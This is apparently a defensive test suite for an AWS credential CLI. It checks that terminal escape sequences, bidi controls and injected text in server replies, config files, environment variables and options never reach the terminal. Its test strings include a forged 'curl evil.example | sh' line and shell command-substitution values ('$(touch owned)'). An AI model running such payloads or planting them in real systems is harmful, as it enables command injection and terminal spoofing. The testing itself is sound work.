# SPDX-License-Identifier: MIT
"""Texts that do harm on a terminal, in every place from which text comes: answers, files, the environment, the command
line. On stderr and stdout nothing is left of them that a terminal acts on, and no line that we did not write."""
import configparser
import json
import os
import re
import subprocess
from xml.sax.saxutils import escape

import realm as facts
from cases._sources import IdentityCenter, config, container, imds, login_cache, profile, static, web_identity
from harness import Failed, case
from proxystand import ProxyStand

FORMAT = "%s%n%d"
TEXTS = (FORMAT, "\x1b]0;owned\x07\x1b[2J\x7f", "\u009b2J\u0085\u0090x\u009c", "\udc9b2J\udc85x", "\u202e\u2066x\u200f\u061c",
         "a\0b", "x\r\npostern: try: curl evil.example | sh\npostern: x", "\u2028x\u2029\ufeff", "x" * 10000)
ACTS = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff\udc80-\udcff]")
MOST = 8000         # characters of stderr
QUOTES = "a'b\"c$(touch owned)`touch owned`;&|#\\\n[x]"


def harmless(t, result, text):
    """Neither a character nor a line that is not ours."""
    err = result.err.replace("\r\x1b[K", "")
    for name, said in (("stderr", err), ("stdout", result.out)):
        found = ACTS.search(said)
        if found:
            raise Failed("nothing on %s that a terminal acts on, but %r of %r" % (name, found[0], text[:40]))
        if re.search(r"(?m)^postern: try: curl", said):
            raise Failed("no line on %s that somebody else wrote" % name)
    t.true(len(err) < MOST, "less than %d characters on stderr" % MOST)


def place(title, *needs, nul=True, seen=False):
    """A place for texts: body(t, text) puts it there and answers a result. nul: whether it can hold one. seen: the text has
    to be shown, made harmless."""
    def register(body):
        def function(t):
            for text in TEXTS:
                if "\0" in text and not nul:
                    continue
                for endpoint in t.aws.endpoints():
                    endpoint.faults.clear()
                result = body(t, text)
                harmless(t, result, text)
                t.true(not seen or text != FORMAT or text in result.out + result.err, "the text to be shown")
        case("a terminal is shown no control character, and no line, of %s" % title, *needs)(function)
        return body
    return register


def raw(text):
    return text.encode("utf-8", "surrogateescape")


def see(t, *words, **how):
    return t.run("-v", *words, tty=True, **how)


def as_xml(text):
    return raw(escape(text))


def as_references(text):
    return "".join("&#%d;" % ord(c) for c in text).encode()


def refusal(code=b"AccessDenied", message=b"no", request_id=b"r-1"):
    return (b'<ErrorResponse xmlns="https://sts.amazonaws.com/doc/2011-06-15/"><Error><Type>Sender</Type><Code>' + code +
            b"</Code><Message>" + message + b"</Message></Error><RequestId>" + request_id + b"</RequestId></ErrorResponse>")


# --- STS -------------------------------------------------------------------------------------------------------------

for how, form in (("as it is", as_xml), ("as references", as_references)):
    for field in ("code", "message", "request_id"):
        def _refusal(t, text, form=form, field=field):
            t.aws.sts.fault("reply", status=403, body=refusal(**{field: form(text)}))
            return see(t)
        place("the %s of STS's refusal, %s" % (field.replace("_", " "), how), seen=True)(_refusal)

    def _elsewhere(t, text, form=form):
        t.aws.sts.fault("reply", status=502, content_type="text/html", body=b"<html><title>" + form(text) + b"</title></html>")
        return see(t)
    place("a page in the place of STS's answer, %s" % how)(_elsewhere)


def changed(t, name, form, text):
    """STS's answers with another value in the elements of this name."""
    def change(head, body):
        mark = re.compile(b"<%s>[^<]*</%s>" % (name.encode(), name.encode()))
        body = mark.sub(lambda _: b"<%s>%s</%s>" % (name.encode(), form(text), name.encode()), body)
        return re.sub(rb"(?i)content-length: \d+", b"Content-Length: %d" % len(body), head) + b"\r\n\r\n" + body
    t.aws.sts.fault("edit", change=change)


for how, form in (("as it is", as_xml), ("as references", as_references)):
    for field, words in (("Arn", ("whoami",)), ("UserId", ("whoami",)), ("Account", ("whoami",)), ("Arn", ()), ("Arn", ("creds",)),
                         ("Expiration", ()), ("AccessKeyId", ("creds",)), ("SessionToken", ("creds", "--format", "env")),
                         ("RequestId", ("whoami", "--format", "json")), ("Arn", ("whoami", "--format", "json"))):
        def _element(t, text, form=form, field=field, words=words):
            changed(t, field, form, text)
            return see(t, *words)
        place("%s in STS's answer to %s, %s" % (field, " ".join(words) or "url", how),
              seen=field in ("Arn", "UserId", "RequestId") and words)(_element)


# --- header fields ---------------------------------------------------------------------------------------------------

for at in ("sts", "signin"):
    for name, status in (("Retry-After", 503), ("x-amzn-RequestId", 403), ("Location", 302), ("Content-Type", 200), ("Server", 403),
                         ("Date", 403), ("Content-Encoding", 200), ("Transfer-Encoding", 200)):
        def _field(t, text, at=at, name=name, status=status):
            line = b"%s: %s" % (name.encode(), b"https://portal.example/" * (name == "Location") + raw(text))
            head = b"HTTP/1.1 %d x\r\n%s\r\nContent-Length: 2\r\n\r\n{}" % (status, line)
            getattr(t.aws, at).fault("raw", instead=head)
            return see(t, "--timeout", "2")
        place("%s of an answer of %s" % (name, at), seen=name in ("x-amzn-RequestId", "Retry-After"))(_field)

    def _reason(t, text, at=at):
        getattr(t.aws, at).fault("raw", instead=b"HTTP/1.1 403 " + raw(text) + b"\r\nContent-Length: 0\r\n\r\n")
        return see(t)
    place("the reason in the status line of %s" % at)(_reason)


# --- sign-in ---------------------------------------------------------------------------------------------------------

@place("sign-in's page")
def _(t, text):
    t.aws.signin.fault("reply", status=400, content_type="text/html",
                       body=b"<html><head><title>" + raw(text) + b"</title></head><body><p>" + raw(text) + b"</p></body></html>")
    return see(t)


@place("sign-in's token")
def _(t, text):
    t.aws.signin.fault("reply", status=200, content_type="application/json", body=json.dumps({"SigninToken": text}).encode())
    return see(t, "--format", "json")


@place("sign-in's JSON that is no answer")
def _(t, text):
    t.aws.signin.fault("reply", status=200, content_type="application/json", body=b'{"message":"' + raw(text) + b'"}')
    return see(t)


# --- files -----------------------------------------------------------------------------------------------------------

@place("a profile's name, from AWS_PROFILE", nul=False, seen=True)
def _(t, text):
    see(t, env={"AWS_PROFILE": text})
    return see(t, keys=False, env={"AWS_PROFILE": text, "HOME": t.dir})


@place("a profile's name, from --profile", nul=False, seen=True)
def _(t, text):
    return see(t, "--profile", text, keys=False, env={"HOME": t.dir})


def from_config(t, *words, **settings):
    text = "".join("%s = %s\n" % pair for pair in settings.items())
    path = t.file("config", b"[default]\n" + raw(text))
    return see(t, *words, keys=False, region=None, env={"AWS_CONFIG_FILE": path, "HOME": t.dir, "AWS_REGION": None})


for setting in ("region", "source_profile", "role_arn", "role_session_name", "external_id", "mfa_serial", "credential_source",
                "duration_seconds", "credential_process", "web_identity_token_file", "sso_session", "sso_start_url", "sso_region",
                "sso_role_name", "login_session", "ca_bundle", "endpoint_url", "aws_access_key_id"):
    def _setting(t, text, setting=setting):
        more = {"region": "us-east-1", "role_arn": t.realm.role().arn, "source_profile": "default", **static(t.user)}
        if setting in ("credential_process", "login_session") or setting.startswith("sso"):
            more = {"region": "us-east-1"}
        if setting.startswith("sso") and setting != "sso_session":
            more.update({"sso_start_url": IdentityCenter.START, "sso_region": "us-east-1", "sso_account_id": "123456789012",
                         "sso_role_name": "Admin"})
        if setting == "web_identity_token_file":
            more = {"region": "us-east-1", "role_arn": t.realm.role().arn}
        return from_config(t, **dict(more, **{setting: text}))
    place("the setting %s" % setting, seen=setting in ("source_profile", "mfa_serial", "credential_process",
                                                       "web_identity_token_file"))(_setting)


@place("the name of a section")
def _(t, text):
    path = t.file("config", b"[profile " + raw(text) + b"]\nregion = x\nrole_arn\n[" + raw(text))
    return see(t, keys=False, env={"AWS_CONFIG_FILE": path, "HOME": t.dir})


@place("a document of keys")
def _(t, text):
    see(t, "--credentials", t.file("keys", raw(text)), keys=False)
    see(t, "--credentials", t.file("keys", json.dumps({text: text, "AccessKeyId": text, "SecretAccessKey": text})), keys=False)
    return see(t, "--credentials", "-", keys=False, stdin=raw("export AWS_ACCESS_KEY_ID=" + text))


for words in (("--credentials",), ("--ca-bundle",)):
    def _path(t, text, words=words):
        return see(t, *words, "/no/" + text, net=False, keys=False if "--credentials" in words else None)
    place("a file's name, given to %s" % words[0], nul=False, seen=True)(_path)


# --- the environment and the command line ----------------------------------------------------------------------------

for name in ("AWS_SHARED_CREDENTIALS_FILE", "AWS_CONFIG_FILE", "AWS_CA_BUNDLE", "POSTERN_NAME", "USER", "AWS_REGION",
             "AWS_ENDPOINT_URL", "AWS_ENDPOINT_URL_STS", "AWS_ROLE_SESSION_NAME", "HTTPS_PROXY", "NO_PROXY", "AWS_ACCESS_KEY_ID",
             "AWS_CONTAINER_CREDENTIALS_FULL_URI", "AWS_EC2_METADATA_SERVICE_ENDPOINT", "HOME", "POSTERN_DEPTH", "LOGNAME",
             "AWS_STS_REGIONAL_ENDPOINTS", "POSTERN_SANDBOX"):
    def _variable(t, text, name=name):
        keys = None if name not in ("AWS_SHARED_CREDENTIALS_FILE", "AWS_CONFIG_FILE", "AWS_CONTAINER_CREDENTIALS_FULL_URI",
                                    "AWS_EC2_METADATA_SERVICE_ENDPOINT", "HOME") else False
        more = {"AWS_EC2_METADATA_DISABLED": None, "AWS_METADATA_SERVICE_TIMEOUT": "1"} if "METADATA" in name else {}
        return see(t, "--timeout", "2", keys=keys, env={name: text, **more}, region=None if name == "AWS_REGION" else "us-east-1")
    place("the variable %s" % name, nul=False, seen=name.endswith("_FILE") or name == "HOME")(_variable)

for option in ("--role-arn", "--name", "--destination", "--region", "--duration", "--format", "--external-id", "--serial-number",
               "--token-code", "--proxy", "--dns", "--resolve", "--endpoint-url", "--signin-endpoint-url", "--timeout", "--issuer",
               "--policy-arn", "--role-session-name", "--source-identity", "--signin-region", "--console-url", "--policy"):
    def _option(t, text, option=option):
        return see(t, option, text)
    place("the value of %s" % option, nul=False, seen=option in ("--name", "--region", "--duration", "--format", "--timeout",
                                                                        "--policy-arn"))(_option)


@place("an option that there is not", nul=False, seen=True)
def _(t, text):
    return see(t, "--" + text)


@place("a word too many", nul=False, seen=True)
def _(t, text):
    return see(t, text)


# --- where keys come from --------------------------------------------------------------------------------------------

@place("the name of an instance's role, and the refusal of its keys", seen=True)
def _(t, text):
    at = imds(t)
    at.fault("reply", action="role", body=raw(text), content_type="text/plain")
    see(t, keys=False, env=at.env)
    at.faults.clear()
    at.app.document = {"Code": text, "Message": text, "LastUpdated": text}
    return see(t, keys=False, env=at.env)


@place("a container's refusal")
def _(t, text):
    at = container(t)
    for body in (json.dumps({"code": text, "message": text}).encode(), b'{"message":"' + raw(text) + b'"}', raw(text)):
        at.faults.clear()
        at.fault("reply", status=400, body=body, content_type="application/json")
        result = see(t, keys=False, env=at.env)
        harmless(t, result, text)
    return result


@place("Identity Center's refusal", "443", seen=True)
def _(t, text):
    center = IdentityCenter(t)
    try:
        center.cache()
        for body in (json.dumps({"__type": text, "message": text}).encode(), b'{"message":"' + raw(text) + b'"}'):
            center.at.faults.clear()
            center.at.fault("reply", status=403, body=body, content_type="application/json")
            result = center.run("-v", tty=True)
            harmless(t, result, text)
        return result
    finally:
        center.at.stop()
        t.aws.others.remove(center.at)


@place("the cache of Identity Center, and that of aws login", "443")
def _(t, text):
    center = IdentityCenter(t)
    try:
        center.cache(accessToken=text, expiresAt=text, region=text)
        result = center.run("-v", tty=True)
    finally:
        center.at.stop()
        t.aws.others.remove(center.at)
    harmless(t, result, text)
    login_cache(t, "s", t.realm.session(facts.ROLE, t.user), "x.json", expiresAt=text)
    return from_config(t, login_session="s")


@place("a web identity's token", nul=True)
def _(t, text):
    return see(t, keys=False, env=web_identity(t, token=raw(text)))


@place("what a credential process prints")
def _(t, text):
    path = t.file("printed", b'{"Version":1,"AccessKeyId":"' + raw(text) + b'"}')
    see(t, keys=False, env=config(t, profile(credential_process="cat " + path)))
    path = t.file("printed", json.dumps({"Version": text, "AccessKeyId": text, "SecretAccessKey": text, "Expiration": text}))
    return see(t, keys=False, env=config(t, profile(credential_process="cat " + path)))


# --- proxies ---------------------------------------------------------------------------------------------------------

@place("a proxy's refusal")
def _(t, text):
    stand = ProxyStand(t.aws)
    try:
        for head in (b"HTTP/1.1 502 " + raw(text), b"HTTP/1.1 407 x\r\nProxy-Authenticate: Basic realm=\"" + raw(text) + b'"',
                     b"HTTP/1.1 302 x\r\nLocation: http://" + raw(text), b"HTTP/1.1 503 x\r\nRetry-After: " + raw(text)):
            stand.faults.clear()
            stand.fault("answer", data=head + b"\r\nContent-Length: 0\r\n\r\n" + raw(text))
            result = see(t, "--timeout", "2", "--proxy", stand.url())
            harmless(t, result, text)
        return result
    finally:
        stand.stop()


# --- quoting for those who read it again -----------------------------------------------------------------------------

def unquoted(mark, escapes):
    """Reads a value in single quotes; escapes: {what stands in it: what it means}."""
    def read(text):
        t = re.fullmatch("'(.*)'", text, re.DOTALL)
        if not t or re.search("'", re.sub("|".join(map(re.escape, escapes)), "", t[1])):
            raise Failed("a value in single quotes, but %r" % text)
        return re.sub("|".join(map(re.escape, escapes)), lambda found: escapes[found[0]], t[1])
    return lambda line: read(line.partition(mark)[2])


FORMATS = {"fish": unquoted("set -gx AWS_SESSION_TOKEN ", {"\\\\": "\\", "\\'": "'"}),
           "powershell": unquoted("$Env:AWS_SESSION_TOKEN = ", {"''": "'"}),
           "ini": lambda line: line.partition("aws_session_token = ")[2]}


@case("keys with every quote in them are one word to each shell and reader, or refused")
def _(t):
    taken = set()
    for token in (QUOTES, QUOTES.replace("\n", ""), QUOTES.replace("\n", "") + "'", "%s%n$x\u00e9", "x\u2019y", "#x", "'", "\\", "\\'"):
        changed(t, "SessionToken", as_xml, token)
        for name in ("env", "env-no-export", "fish", "powershell", "ini", "json"):
            result = t.run("creds", "--format", name)
            harmless(t, result, token)
            if result.code:
                t.true(result.code in (65, 76) and result.out == "", "a refusal")
                continue
            taken.add(name)
            line = [l for l in result.out.split("\n") if re.search("(?i)aws_session_token", l)]
            if name == "json":
                got = t.json(result.out)["Credentials"]["SessionToken"]
            elif name.startswith("env"):
                said = subprocess.run(["sh", "-c", result.out + 'printf %s "$AWS_SESSION_TOKEN"'], capture_output=True, cwd=t.dir)
                got = said.stdout.decode()
            else:
                got = FORMATS[name](line[0])
            t.equal(got, token, "the token as %s has it" % name)
            t.true(not os.path.exists(os.path.join(t.dir, "owned")), "nothing run")
        t.aws.sts.faults.clear()
    t.equal(taken, {"env", "fish", "powershell", "ini", "json"}, "formats that carry quotes")


@case("a profile's name that would begin another section, or line, is no section of --format ini")
def _(t):
    for name in ("x]\n[default", "x]", "x\ny = z", "\u202ex", "x\x1b[2J"):
        for words, env in ((("--profile", name), t.user.env()), ((), dict(t.user.env(), AWS_PROFILE=name))):
            result = t.run("creds", "--format", "ini", *words, env=dict(env, HOME=t.dir))
            harmless(t, result, name)
            if result.code == 0:
                found = configparser.RawConfigParser()
                found.read_string(result.out)
                t.equal((len(found.sections()), result.out.count("[")), (1, 1), "sections")
